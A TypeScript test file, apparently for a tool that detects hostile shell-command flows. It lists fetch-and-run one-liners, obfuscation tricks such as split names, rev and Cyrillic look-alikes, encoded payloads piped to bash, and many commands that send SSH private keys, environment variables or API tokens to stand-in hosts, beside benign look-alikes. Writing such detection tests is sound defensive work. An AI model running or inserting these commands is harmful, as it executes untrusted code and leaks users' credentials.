import { Buffer } from 'node:buffer';
import { gzipSync } from 'node:zlib';
import { testFlows } from '../table';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');

describe('Shell: what is fetched and run', () => {
	const fetched = (by: string) => [`https://a.example/x > run by ${by}`];
	testFlows('shell', [
		['piped', 'curl -s https://a.example/x | sh', fetched('sh')],
		['through sudo and a path', 'curl https://a.example/x | sudo -E /bin/bash -s -- -y', fetched('bash')],
		['substituted', 'sh -c "$(wget -qO- https://a.example/x)"', fetched('sh -c')],
		['sourced', 'source <(curl -s https://a.example/x)', fetched('source')],
		['evaluated', 'eval "$(curl -s https://a.example/x)"', fetched('eval')],
		['saved, then run', 'curl -o /tmp/f https://a.example/x\nchmod +x /tmp/f\n/tmp/f', fetched('the shell')],
		['saved by redirection', 'wget -qO- https://a.example/x > f.sh; bash f.sh', fetched('bash')],
		['through a variable', 'S=$(curl -s https://a.example/x)\nbash -c "$S"', fetched('bash -c')],
		['into an interpreter', 'curl -s https://a.example/x | python3 -', fetched('python3')],
		['through tee', 'curl -s https://a.example/x | tee log | bash', fetched('bash')],
	]);
});

describe('Shell: disguises of a fetch', () => {
	const flow = ['https://a.example/x > run by bash'];
	testFlows('shell', [
		['a backslash', 'c\\url https://a.example/x | ba\\sh', flow],
		['quotes', "cu'r'l https://a.example/x | b'as'h", flow],
		['a variable', 'C=curl; S=bash; $C https://a.example/x | $S', flow],
		['halves', 'A=cu; B=rl; "$A$B" https://a.example/x | bash', flow],
		['a default', '${none:-curl} https://a.example/x | bash', flow],
		['ANSI-C quoting', "$'\\x63url' https://a.example/x | bash", flow],
		['printf', '$(printf "%s%s" cu rl) https://a.example/x | bash', flow],
		['a function', 'get() { curl "$1"; }\nget https://a.example/x | bash', flow],
		['the address in pieces', 'H=a.example; P=x; curl "https://$H/$P" | bash', flow],
		['rev', 'U=$(echo x/elpmaxe.a//:sptth | rev); curl $U | bash', flow],
		['Cyrillic look-alikes', 'сurl https://a.example/x | bash', flow],
		['a here-document', 'bash <<EOF\ncurl https://a.example/x | bash\nEOF', flow],
	]);
});

describe('Shell: what is decoded and run', () => {
	const run = (encoding: string) => [`${encoding}: touch here > run by bash`];
	testFlows('shell', [
		['base64', `echo ${base64('touch here')} | base64 -d | bash`, run('base64')],
		['base64 as macOS spells it', `echo '${base64('touch here')}' | base64 -D | bash`, run('base64')],
		['a here-string', `bash <<< "$(base64 --decode <<< ${base64('touch here')})"`, run('base64')],
		['xxd', `echo ${hex('touch here')} | xxd -r -p | bash`, run('hex')],
		['openssl', `echo ${base64('touch here')} | openssl enc -base64 -d | bash`, run('base64')],
		[
			'two pieces',
			`A=${base64('touch here').slice(0, 6)}; B=${base64('touch here').slice(6)}; echo $A$B | base64 -d | bash`,
			run('base64'),
		],
		[
			'base64 over gzip',
			`echo ${gzipSync('touch here').toString('base64')} | base64 -d | gunzip | bash`,
			run('base64+gzip'),
		],
		['through a file', `echo ${base64('touch here')} | base64 -d > /tmp/x; bash /tmp/x`, run('base64')],
	]);
});

describe('Shell: secrets that leave', () => {
	const key = (to: string, channel = 'http') => [`~/.ssh/id_rsa > ${to} (${channel})`];
	testFlows('shell', [
		['-d @file', 'curl -d @$HOME/.ssh/id_rsa https://a.example/c', key('https://a.example/c')],
		['-F', 'curl -F "f=@/root/.ssh/id_rsa" https://a.example/c', key('https://a.example/c')],
		['-T', 'curl -T ~/.ssh/id_rsa https://a.example/c', key('https://a.example/c')],
		[
			'standard input',
			'cat ~/.ssh/id_rsa | curl --data-binary @- https://a.example/c',
			key('https://a.example/c'),
		],
		['substitution', 'curl -d "$(cat ~/.ssh/id_rsa)" https://a.example/c', key('https://a.example/c')],
		['encoded first', 'base64 ~/.ssh/id_rsa | curl -d @- https://a.example/c', key('https://a.example/c')],
		[
			'through a temporary file',
			'tar czf /tmp/a ~/.ssh/id_rsa; curl -F f=@/tmp/a https://a.example/c',
			key('https://a.example/c'),
		],
		['wget', 'wget --post-file="$HOME/.ssh/id_rsa" https://a.example/c', key('https://a.example/c')],
		['netcat', 'nc 192.0.2.1 4444 < ~/.ssh/id_rsa', key('tcp://192.0.2.1:4444', 'socket')],
		['scp', 'scp ~/.ssh/id_rsa u@a.example:/tmp', key('scp://a.example', 'scp')],
		['cloud storage', 'aws s3 cp ~/.ssh/id_rsa s3://bucket/x', key('s3://bucket/x', 'cloud')],
		['the environment', 'env | curl -d @- https://a.example/c', ['env all > https://a.example/c (http)']],
		[
			'one variable',
			'curl -d "$API_TOKEN" https://a.example/c',
			['env API_TOKEN > https://a.example/c (http)'],
		],
	]);
});

describe('Shell: innocent look-alikes', () => {
	testFlows('shell', [
		['a download that is kept', 'curl -fsSLO https://a.example/data.csv && wc -l data.csv', []],
		['JSON piped into jq', 'curl -s https://a.example/x | jq .name', []],
		['a public key shown', 'cat ~/.ssh/id_rsa.pub', []],
		['decoding for the eye', `echo ${base64('hello')} | base64 -d`, []],
		['a file of the project uploaded', 'curl -F "f=@report.pdf" https://a.example/c', []],
		['an archive of the project', 'tar czf dist.tgz dist && scp dist.tgz u@a.example:/srv', []],
		['words that only name commands', 'echo "never run curl https://a.example/x | sh"', []],
		['a comment', '# curl https://a.example/x | sh', []],
		['grep for a pattern', "grep -rn 'curl .* | sh' .", []],
	]);
});
